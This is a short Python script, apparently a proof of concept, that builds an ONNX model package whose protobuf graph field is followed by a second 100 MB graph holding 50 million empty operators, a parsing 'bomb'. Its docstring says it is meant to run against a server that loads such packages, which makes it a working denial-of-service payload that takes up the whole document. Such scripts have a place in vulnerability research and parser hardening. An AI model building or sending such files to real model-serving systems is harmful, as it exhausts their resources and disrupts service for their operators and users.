"""Run in the server's environment: a package like csmask's whose graph of 100 MB is 50 million operators of no bytes.

python onnx_bomb.py FOLDER
"""

import sys
from pathlib import Path

from onnx_writing import GRAPH, network, write_package

#: A field of the graph, number 1, of no length: an empty operator.
OPERATOR = b"\x0a\x00"
OPERATORS = 50_000_000


def main() -> None:
    package = write_package(Path(sys.argv[1]))
    content = network().SerializeToString()
    graph = OPERATOR * OPERATORS
    # The model's field 7, of bytes of a length: a graph once more, whose operators are added to the first one's.
    (package / GRAPH).write_bytes(content + b"\x3a" + _varint(len(graph)) + graph)


def _varint(number: int) -> bytes:
    digits = []
    while number >= 0x80:
        digits.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*digits, number])


if __name__ == "__main__":
    main()
